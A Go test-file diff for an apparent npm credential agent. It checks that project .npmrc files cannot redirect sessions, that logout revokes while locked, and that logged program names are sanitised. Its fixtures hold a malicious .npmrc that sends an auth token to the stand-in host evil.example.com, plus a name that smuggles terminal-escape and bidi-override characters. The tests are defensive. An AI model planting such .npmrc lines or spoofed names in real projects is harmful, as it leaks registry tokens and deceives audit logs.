@@ -229,8 +229,68 @@ func TestQuitEmptiesAndEnds(t *testing.T) {
 		if w.shell(own) != "" {
 			t.Error("the env file outlived the agent")
 		}
-		if _, err := a.Grant(t.Context(), api.GrantRequest{}); codeOf(err) != api.CodeNoAgent {
+		if _, err := a.Grant(t.Context(), api.GrantRequest{Use: api.UseExec}); codeOf(err) != api.CodeNoAgent {
 			t.Errorf("an ended agent answers %v", err)
+		}
+	})
+}
+
+// TestA14_ProjectFilesChooseNothing: a cloned repository's file names no variable, makes no session, and
+// does not change the scheme of the user's registry.
+func TestA14_ProjectFilesChooseNothing(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		w := newWorld()
+		w.settings.Move = true
+		w.settings.Projects = []string{"/repo"}
+		w.files["/repo/.npmrc"] = "registry=http://registry.example.com/\n//evil.example.com/:_authToken=${NPM_TOKEN}\n//registry.example.com/:_authToken=${HTTPS_PROXY}\n"
+		a, stop := w.run(t)
+		defer stop()
+		w.save(userRC, rewritten(w.issue()))
+		s := only(t, a)
+		if s.Registry != reg.String() || len(s.Variables) != 1 || !strings.HasPrefix(s.Variables[0], "SG_") {
+			t.Errorf("session %s carried by %v", s.Registry, s.Variables)
+		}
+		if w.shell("NPM_TOKEN") != "" || w.shell("HTTPS_PROXY") != "" {
+			t.Error("a project's file chose the name that carries the session")
+		}
+	})
+}
+
+// TestLogoutWhileLocked revokes all the same: the keyring has what memory forgot.
+func TestLogoutWhileLocked(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		w := newWorld()
+		a, stop := w.run(t)
+		defer stop()
+		w.save(userRC, rewritten(w.issue()))
+		if err := a.Do(t.Context(), api.Action{Verb: api.VerbLock}); err != nil {
+			t.Fatal(err)
+		}
+		if err := a.Logout(t.Context(), reg.String()); err != nil || len(w.issued) != 0 {
+			t.Errorf("%v, %d sessions left at the registry", err, len(w.issued))
+		}
+	})
+}
+
+// TestT12_UsesAreToldAsTheyWere: by the executable that the system names, cleaned, and a storm as one.
+func TestT12_UsesAreToldAsTheyWere(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		w := newWorld()
+		a, stop := w.run(t)
+		defer stop()
+		w.save(userRC, rewritten(w.issue()))
+		ctx := api.WithPeer(t.Context(), api.Peer{PID: 7, Program: "/tmp/other"})
+		for range 60 {
+			if _, err := a.Grant(ctx, api.GrantRequest{Use: api.UseExec, Program: "n\x1bpm\u202e" + strings.Repeat("x", 200)}); err != nil {
+				t.Fatal(err)
+			}
+		}
+		uses := snapshot(t, a).Uses
+		if len(uses) != 1 || uses[0].Executable != "/tmp/other" || len(uses[0].Program) != 80 || strings.ContainsAny(uses[0].Program, "\x1b\u202e") {
+			t.Errorf("%d uses: %+v", len(uses), uses[0])
+		}
+		if _, err := a.Grant(ctx, api.GrantRequest{Use: "steal"}); codeOf(err) != api.CodeUsage {
+			t.Errorf("an unknown use: %v", err)
 		}
 	})
 }
